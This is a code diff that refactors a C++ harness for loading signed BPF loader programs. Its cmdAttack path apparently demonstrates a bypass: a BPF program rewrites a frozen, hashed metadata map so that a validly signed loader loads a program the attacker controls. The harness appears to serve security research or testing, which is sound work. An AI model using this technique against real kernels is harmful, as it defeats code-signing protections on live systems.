@@ -540,6 +540,102 @@ bool sealedTarget(const std::string &path, Target &t, bool kernel_check) {
   return true;
 }
 
+// ---- a signed loader's load, as libbpfseal does it ------------------------------
+
+// The metadata map: one array element holding `metadata`, frozen, exclusive to
+// the 32-byte digest `excl` when given. Returns the fd, or -1 with errno set
+// when the kernel refuses the create (no excl_prog_hash before 6.18).
+int createMetadataMap(const Bytes &metadata, const char *name, const uint8_t *excl) {
+  Attr mc;
+  mc.put<uint32_t>(0, BPF_MAP_TYPE_ARRAY);
+  mc.put<uint32_t>(4, 4);
+  mc.put<uint32_t>(8, uint32_t(metadata.size()));
+  mc.put<uint32_t>(12, 1);
+  std::strncpy(reinterpret_cast<char *>(mc.b + 28), name, 15);
+  if (excl) {
+    mc.put<uint64_t>(80, uint64_t(uintptr_t(excl)));
+    mc.put<uint32_t>(88, 32);
+  }
+  int fd = int(sysBpf(BPF_MAP_CREATE, mc));
+  if (fd < 0)
+    return -1;
+  uint32_t key = 0;
+  if (bpf_map_update_elem(fd, &key, metadata.data(), 0) || bpf_map_freeze(fd))
+    die("fill/freeze: %s", strerror(errno));
+  return fd;
+}
+
+// map->sha, computed by the kernel (BPF_OBJ_GET_INFO_BY_FD with a hash buffer).
+std::array<uint8_t, 32> kernelMapHash(int map_fd) {
+  std::array<uint8_t, 32> hash{};
+  uint8_t info[104] = {};
+  uint64_t hash_ptr = uint64_t(uintptr_t(hash.data()));
+  uint32_t hash_size = 32;
+  std::memcpy(info + 88, &hash_ptr, 8);
+  std::memcpy(info + 96, &hash_size, 4);
+  Attr gi;
+  gi.put<uint32_t>(0, uint32_t(map_fd));
+  gi.put<uint32_t>(4, sizeof info);
+  gi.put<uint64_t>(8, uint64_t(uintptr_t(info)));
+  if (sysBpf(BPF_OBJ_GET_INFO_BY_FD, gi))
+    die("map hash: %s", strerror(errno));
+  return hash;
+}
+
+// BPF_PROG_LOAD of a loader bound to the map in fd_array[0]; `bind_cnt`
+// passes fd_array_cnt (kernel-check); an empty signature loads unsigned.
+int loadLoaderProg(const Bytes &insns, const char *name, int *fd_array, bool bind_cnt,
+                   const Bytes &signature, int32_t keyring, char *log, uint32_t log_size) {
+  Attr ll;
+  ll.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
+  ll.put<uint32_t>(4, uint32_t(insns.size() / 8));
+  ll.put<uint64_t>(8, uint64_t(uintptr_t(insns.data())));
+  ll.put<uint64_t>(16, uint64_t(uintptr_t("Dual BSD/GPL")));
+  ll.put<uint32_t>(24, 1);
+  ll.put<uint32_t>(28, log_size);
+  ll.put<uint64_t>(32, uint64_t(uintptr_t(log)));
+  ll.put<uint32_t>(44, BPF_F_SLEEPABLE);
+  std::strncpy(reinterpret_cast<char *>(ll.b + 48), name, 15);
+  ll.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
+  if (bind_cnt)
+    ll.put<uint32_t>(148, 1);
+  if (!signature.empty()) {
+    ll.put<uint64_t>(152, uint64_t(uintptr_t(signature.data())));
+    ll.put<uint32_t>(160, uint32_t(signature.size()));
+    ll.put<int32_t>(164, keyring);
+  }
+  log[0] = 0;
+  return int(sysBpf(BPF_PROG_LOAD, ll));
+}
+
+// Runs a loaded loader once with a zeroed context for `t`'s maps and
+// programs. Returns the run's rc and sets *retval; on success the context
+// holds the fds the loader made (closeCtxFds releases them once the caller
+// has listed the objects).
+int runLoaderOnce(int loader_fd, const Target &t, std::vector<uint8_t> &ctx, int *retval) {
+  ctx.assign(24 + 16 * size_t(t.nmaps) + 4 * size_t(t.nprogs), 0);
+  uint32_t ctx_sz = uint32_t(ctx.size());
+  std::memcpy(ctx.data(), &ctx_sz, 4);
+  LIBBPF_OPTS(bpf_test_run_opts, run, .ctx_in = ctx.data(), .ctx_size_in = ctx_sz);
+  int rc = bpf_prog_test_run_opts(loader_fd, &run);
+  *retval = int(run.retval);
+  return rc;
+}
+
+void closeCtxFds(const std::vector<uint8_t> &ctx, const Target &t) {
+  std::vector<size_t> fd_offsets;
+  for (int i = 0; i < t.nmaps; i++)
+    fd_offsets.push_back(24 + 16 * size_t(i));
+  for (int i = 0; i < t.nprogs; i++)
+    fd_offsets.push_back(24 + 16 * size_t(t.nmaps) + 4 * size_t(i));
+  for (size_t off : fd_offsets) {
+    int32_t fd;
+    std::memcpy(&fd, ctx.data() + off, 4);
+    if (fd > 2)
+      close(fd);
+  }
+}
+
 // The attacker's metadata: the genuine one with the program renamed, so a
 // program the attacker controls is recognisable by name.
 constexpr char kGenuineName[] = "vm_count";
@@ -598,38 +694,14 @@ int cmdAttack(const std::string &kind, const std::string &target_arg, bool signe
 
   // 1. The attacker's copy of the metadata map: genuine bytes, frozen, hashed,
   //    so map->sha is what the signed loader expects.
-  Attr mc;
-  mc.put<uint32_t>(0, BPF_MAP_TYPE_ARRAY);
-  mc.put<uint32_t>(4, 4);
-  mc.put<uint32_t>(8, uint32_t(t.metadata.size()));
-  mc.put<uint32_t>(12, 1);
-  std::memcpy(mc.b + 28, "attacker_meta", 14);
-  static const uint8_t zero_hash[32] = {};
-  if (zero_digest) {
-    mc.put<uint64_t>(80, uint64_t(uintptr_t(zero_hash))); // exclusive to the all-zero digest
-    mc.put<uint32_t>(88, 32);
-  }
-  Fd map(int(sysBpf(BPF_MAP_CREATE, mc)));
+  static const uint8_t zero_hash[32] = {}; // zero digest: exclusive to the all-zero digest
+  Fd map(createMetadataMap(t.metadata, "attacker_meta", zero_digest ? zero_hash : nullptr));
   if (map.fd < 0) {
     printf("SKIP: exclusive map create: %s (kernel without excl_prog_hash)\n", strerror(errno));
     return kExitSkip;
   }
   uint32_t key = 0;
-  if (bpf_map_update_elem(map.fd, &key, t.metadata.data(), 0) || bpf_map_freeze(map.fd))
-    die("fill/freeze: %s", strerror(errno));
-  uint8_t hash[32] = {};
-  Attr gi;
-  uint8_t info[104] = {};
-  uint64_t hash_ptr = uint64_t(uintptr_t(hash));
-  uint32_t hash_size = 32;
-  std::memcpy(info + 88, &hash_ptr, 8);
-  std::memcpy(info + 96, &hash_size, 4);
-  gi.put<uint32_t>(0, uint32_t(map.fd));
-  gi.put<uint32_t>(4, sizeof info);
-  gi.put<uint64_t>(8, uint64_t(uintptr_t(info)));
-  if (sysBpf(BPF_OBJ_GET_INFO_BY_FD, gi))
-    die("map hash: %s", strerror(errno));
-  if (std::memcmp(hash, sha256(t.metadata).data(), 32))
+  if (kernelMapHash(map.fd) != sha256(t.metadata))
     die("kernel map hash differs from SHA-256 of the metadata");
 
   // 2. The attacker's program rewrites the frozen map from BPF (freezing only
@@ -678,26 +750,8 @@ int cmdAttack(const std::string &kind, const std::string &target_arg, bool signe
   printf("attacker rewrote the frozen, hashed map (%d name copies replaced)\n", replaced);
 
   // 3. The validly signed loader, bound to the tampered map.
-  Attr ll;
-  ll.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
-  ll.put<uint32_t>(4, uint32_t(t.insns.size() / 8));
-  ll.put<uint64_t>(8, uint64_t(uintptr_t(t.insns.data())));
-  ll.put<uint64_t>(16, uint64_t(uintptr_t("Dual BSD/GPL")));
-  ll.put<uint32_t>(24, 1);
-  ll.put<uint32_t>(28, sizeof log);
-  ll.put<uint64_t>(32, uint64_t(uintptr_t(log)));
-  ll.put<uint32_t>(44, BPF_F_SLEEPABLE);
-  std::memcpy(ll.b + 48, "loader", 7);
-  ll.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
-  if (zero_digest)
-    ll.put<uint32_t>(148, 1);
-  if (signed_load) {
-    ll.put<uint64_t>(152, uint64_t(uintptr_t(t.signature.data())));
-    ll.put<uint32_t>(160, uint32_t(t.signature.size()));
-    ll.put<int32_t>(164, keyring);
-  }
-  log[0] = 0;
-  Fd loader(int(sysBpf(BPF_PROG_LOAD, ll)));
+  Fd loader(loadLoaderProg(t.insns, "loader", fd_array, zero_digest,
+                           signed_load ? t.signature : Bytes{}, keyring, log, sizeof log));
   if (loader.fd < 0) {
     int err = errno;
     printf("%s: signed load refused: %s (errno %d)\n%.1500s\n", t.label.c_str(), strerror(err),
@@ -716,12 +770,9 @@ int cmdAttack(const std::string &kind, const std::string &target_arg, bool signe
   // Objects the loader run creates (the loader itself excluded).
   auto p0 = progIds();
   auto m0 = mapIds();
-  std::vector<uint8_t> ctx(24 + 16 * size_t(t.nmaps) + 4 * size_t(t.nprogs));
-  uint32_t ctx_sz = uint32_t(ctx.size());
-  std::memcpy(ctx.data(), &ctx_sz, 4);
-  LIBBPF_OPTS(bpf_test_run_opts, run, .ctx_in = ctx.data(), .ctx_size_in = ctx_sz);
-  int rc = bpf_prog_test_run_opts(loader.fd, &run);
-  int retval = int(run.retval);
+  int retval = 0;
+  std::vector<uint8_t> ctx;
+  int rc = runLoaderOnce(loader.fd, t, ctx, &retval);
   Created made = diffIds(p0, m0);
   int evil_progs = 0;
   for (uint32_t id : made.progs) {
@@ -731,19 +782,8 @@ int cmdAttack(const std::string &kind, const std::string &target_arg, bool signe
   }
   for (uint32_t id : made.maps)
     printf("  new map id %u name %s\n", id, mapName(id).c_str());
-  // The loader wrote the fds it made into the ctx: close them (they are ours).
-  for (int i = 0; i < t.nmaps; i++) {
-    int32_t fd;
-    std::memcpy(&fd, ctx.data() + 24 + 16 * size_t(i), 4);
-    if (fd > 2 && retval == 0)
-      close(fd);
-  }
-  for (int i = 0; i < t.nprogs; i++) {
-    int32_t fd;
-    std::memcpy(&fd, ctx.data() + 24 + 16 * size_t(t.nmaps) + 4 * size_t(i), 4);
-    if (fd > 2 && retval == 0)
-      close(fd);
-  }
+  if (rc == 0 && retval == 0)
+    closeCtxFds(ctx, t);
   printf("%s: loader run rc %d retval %d (%s), new progs %zu (attacker's: %d), new maps %zu\n",
          t.label.c_str(), rc, retval, retval < 0 ? strerror(-retval) : retval > 0 ? "prologue verdict" : "ok", made.progs.size(),
          evil_progs, made.maps.size());
@@ -793,57 +833,21 @@ int cmdRawLoad(const std::string &damage, const std::string &target_arg, int32_t
   }
 
   std::array<uint8_t, 32> digest = sha256(t.insns);
-  Attr mc;
-  mc.put<uint32_t>(0, BPF_MAP_TYPE_ARRAY);
-  mc.put<uint32_t>(4, 4);
-  mc.put<uint32_t>(8, uint32_t(t.metadata.size()));
-  mc.put<uint32_t>(12, 1);
-  std::memcpy(mc.b + 28, "raw_meta", 9);
-  mc.put<uint64_t>(80, uint64_t(uintptr_t(digest.data())));
-  mc.put<uint32_t>(88, 32);
-  Fd map(int(sysBpf(BPF_MAP_CREATE, mc)));
+  Fd map(createMetadataMap(t.metadata, "raw_meta", digest.data()));
   if (map.fd < 0) {
     printf("SKIP: exclusive map create: %s (kernel without excl_prog_hash)\n", strerror(errno));
     return kExitSkip;
   }
-  uint32_t key = 0;
-  if (bpf_map_update_elem(map.fd, &key, t.metadata.data(), 0) || bpf_map_freeze(map.fd))
-    die("fill/freeze: %s", strerror(errno));
-  // The metadata map's hash, computed as libbpfseal asks the kernel to.
-  uint8_t hash[32] = {};
-  uint8_t info[104] = {};
-  uint64_t hash_ptr = uint64_t(uintptr_t(hash));
-  uint32_t hash_size = 32;
-  std::memcpy(info + 88, &hash_ptr, 8);
-  std::memcpy(info + 96, &hash_size, 4);
-  Attr gi;
-  gi.put<uint32_t>(0, uint32_t(map.fd));
-  gi.put<uint32_t>(4, sizeof info);
-  gi.put<uint64_t>(8, uint64_t(uintptr_t(info)));
-  if (sysBpf(BPF_OBJ_GET_INFO_BY_FD, gi))
-    die("map hash: %s", strerror(errno));
+  // The kernel computes map->sha when asked (libbpfseal asks; the 6.18-scheme
+  // prologue compares it).
+  (void)kernelMapHash(map.fd);
 
   static char log[1 << 16];
   int fd_array[1] = {map.fd};
-  Attr ll;
-  ll.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
-  ll.put<uint32_t>(4, uint32_t(t.insns.size() / 8));
-  ll.put<uint64_t>(8, uint64_t(uintptr_t(t.insns.data())));
-  ll.put<uint64_t>(16, uint64_t(uintptr_t("Dual BSD/GPL")));
-  ll.put<uint32_t>(24, 1);
-  ll.put<uint32_t>(28, sizeof log);
-  ll.put<uint64_t>(32, uint64_t(uintptr_t(log)));
-  ll.put<uint32_t>(44, BPF_F_SLEEPABLE);
-  std::memcpy(ll.b + 48, "raw_loader", 11);
-  ll.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
-  if (kc)
-    ll.put<uint32_t>(148, 1);
-  ll.put<uint64_t>(152, uint64_t(uintptr_t(t.signature.data())));
-  ll.put<uint32_t>(160, uint32_t(t.signature.size()));
-  ll.put<int32_t>(164, keyring);
   auto p0 = progIds();
   auto m0 = mapIds();
-  Fd loader(int(sysBpf(BPF_PROG_LOAD, ll)));
+  Fd loader(loadLoaderProg(t.insns, "raw_loader", fd_array, kc, t.signature, keyring, log,
+                           sizeof log));
   if (loader.fd < 0) {
     int err = errno;
     Created made = diffIds(p0, m0);
@@ -854,29 +858,13 @@ int cmdRawLoad(const std::string &damage, const std::string &target_arg, int32_t
   }
   p0 = progIds();
   m0 = mapIds();
-  std::vector<uint8_t> ctx(24 + 16 * size_t(t.nmaps) + 4 * size_t(t.nprogs));
-  uint32_t ctx_sz = uint32_t(ctx.size());
-  std::memcpy(ctx.data(), &ctx_sz, 4);
-  LIBBPF_OPTS(bpf_test_run_opts, run, .ctx_in = ctx.data(), .ctx_size_in = ctx_sz);
-  if (bpf_prog_test_run_opts(loader.fd, &run))
+  std::vector<uint8_t> ctx;
+  int retval = 0;
+  if (runLoaderOnce(loader.fd, t, ctx, &retval))
     die("BPF_PROG_TEST_RUN: %s", strerror(errno));
-  int retval = int(run.retval);
   Created made = diffIds(p0, m0);
-  // A successful run moved the fds it made into the ctx: they are ours.
-  if (retval == 0) {
-    for (int i = 0; i < t.nmaps; i++) {
-      int32_t fd;
-      std::memcpy(&fd, ctx.data() + 24 + 16 * size_t(i), 4);
-      if (fd > 2)
-        close(fd);
-    }
-    for (int i = 0; i < t.nprogs; i++) {
-      int32_t fd;
-      std::memcpy(&fd, ctx.data() + 24 + 16 * size_t(t.nmaps) + 4 * size_t(i), 4);
-      if (fd > 2)
-        close(fd);
-    }
-  }
+  if (retval == 0)
+    closeCtxFds(ctx, t);
   if (retval > 0)
     printf("%s: RAW: verdict %d, new progs %zu maps %zu\n", t.label.c_str(), retval,
            made.progs.size(), made.maps.size());
